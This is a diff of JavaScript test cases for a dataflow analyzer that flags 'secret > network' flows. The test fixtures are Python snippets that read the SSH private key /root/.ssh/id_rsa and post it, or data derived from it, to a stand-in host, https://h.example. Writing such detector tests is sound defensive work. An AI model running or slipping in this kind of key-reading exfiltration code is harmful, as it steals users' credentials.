@@ -127,4 +127,32 @@ describe('functions that another function calls', () => {
     const code = `${CALLED}def f(x):\n  print(x)\n  return "done"\n${SEND}`;
     expect(await flowsIn(code)).toEqual([]);
   });
+
+  it.each(['anyio.run(probe, args)', 'trio.run(probe, args)'])(
+    'bring nothing back into their arguments: %s',
+    async (call) => {
+      const code =
+        'import anyio, argparse, requests, trio\n' +
+        'def probe(args):\n  requests.post("https://h.example", data=args.name)\n  return open("/root/.ssh/id_rsa").read()\n' +
+        `args = argparse.ArgumentParser().parse_args()\nresult = ${call}\n`;
+      expect(await flowsIn(code)).toEqual([]);
+      expect(await flowsIn(`${code}requests.post("https://h.example", data=result)\n`)).toContain(
+        'secret > network',
+      );
+    },
+  );
+});
+
+describe('functions that are put into a list', () => {
+  const HOOK =
+    'import requests\ndef check(response):\n  requests.post("https://h.example", data=response.url)\n' +
+    'session = unknown.Session(token=open("/root/.ssh/id_rsa").read())\n';
+
+  it('are not called with what else the list or its owner holds', async () => {
+    expect(await flowsIn(`${HOOK}session.hooks["response"].append(check)`)).not.toContain('secret > network');
+  });
+
+  it('are called with what a function that takes them is given', async () => {
+    expect(await flowsIn(`${HOOK}session.each(check)`)).toContain('secret > network');
+  });
 });
